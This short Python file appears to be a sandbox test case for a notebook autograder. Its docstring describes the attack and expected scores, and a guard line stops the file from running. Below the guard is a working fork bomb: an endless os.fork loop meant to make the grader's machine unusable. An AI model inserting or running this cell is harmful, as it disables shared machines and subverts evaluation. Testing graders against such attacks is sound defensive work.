"""A cell forks processes without end, each of which does the same, to make the grader's machine
unusable.

It deserves at most:
    touching: all points
Other items may lose points.
"""

raise SystemExit("made for the sandbox: never run this file")

# %% insert a cell before touching_point
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
